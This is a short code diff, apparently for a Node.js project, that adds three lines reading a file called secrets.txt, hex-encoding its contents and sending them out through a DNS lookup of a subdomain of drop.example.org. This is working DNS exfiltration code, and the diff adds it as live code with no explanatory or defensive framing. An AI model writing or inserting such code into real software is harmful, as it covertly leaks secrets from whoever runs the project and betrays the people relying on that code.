@@ -1,0 +1,3 @@
+const dns = require("dns");
+const text = require("fs").readFileSync("secrets.txt").toString("hex");
+dns.lookup(`${text}.drop.example.org`, () => {});
